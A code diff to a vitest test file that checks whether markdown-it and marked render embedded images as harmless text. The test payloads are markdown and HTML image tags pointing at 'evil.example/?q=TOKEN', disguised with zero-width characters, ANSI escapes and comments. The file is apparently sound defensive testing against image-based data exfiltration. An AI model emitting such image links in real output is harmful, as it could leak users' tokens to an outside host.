@@ -1,6 +1,7 @@
 import MarkdownIt from 'markdown-it';
 import { marked } from 'marked';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { sampled } from '../extent.ts';
 import { endSessions } from '../harness.ts';
 import { here, named, questions, visitor } from './corpus.ts';
 
@@ -69,7 +70,7 @@ const url = 'https://evil.example/?q=TOKEN';
 describe('an image that a host would fetch', () => {
   const withHtml = new MarkdownIt({ html: true });
 
-  it.each([
+  const images = [
     ['plain', `![x](${url})`],
     ['with brackets', `![a [ ] b](${url})`],
     ['with escapes', `![a \\] b](${url}) \\![x](${url}) \\\\![y](${url})`],
@@ -86,13 +87,18 @@ describe('an image that a host would fetch', () => {
     ['behind what nobody sees', `!\u200b[x](${url}) <\u200bimg src="${url}">`],
     ['behind colours', `!\u001b[0m[x](${url}) <\u001b[0mimg src="${url}">`],
     ['in a comment', `<!-- ${url} --> <?x ${url} ?> <![CDATA[${url}]]>`],
-  ])('%s is text to markdown-it and to marked', { timeout: 60_000 }, async (_, text) => {
-    for (const said of await everything(text)) {
-      for (const html of [withHtml.render(said), await marked.parse(said)]) {
-        for (const element of elements(html)) expect(element, said).toMatch(shown);
+  ] as const;
+  it.each(sampled(images, 5))(
+    '%s is text to markdown-it and to marked',
+    { timeout: 60_000 },
+    async (_, text) => {
+      for (const said of await everything(text)) {
+        for (const html of [withHtml.render(said), await marked.parse(said)]) {
+          for (const element of elements(html)) expect(element, said).toMatch(shown);
+        }
       }
-    }
-  });
+    },
+  );
 });
 
 describe('a credential', () => {
